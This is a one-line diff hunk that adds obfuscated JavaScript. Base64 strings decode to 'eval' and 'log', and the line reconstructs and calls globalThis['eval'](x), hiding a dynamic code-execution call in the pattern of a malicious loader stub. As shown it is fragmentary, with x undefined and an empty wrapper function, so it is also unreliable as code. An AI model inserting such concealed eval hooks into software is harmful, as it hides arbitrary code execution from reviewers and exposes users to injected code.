@@ -1,0 +1,1 @@
+var _0x1a=['ZXZhbA==','bG9n'];(function(a,b){})(_0x1a,0x1);var _0x2b=function(a){return atob(_0x1a[a])};globalThis[_0x2b('0x0')](x)
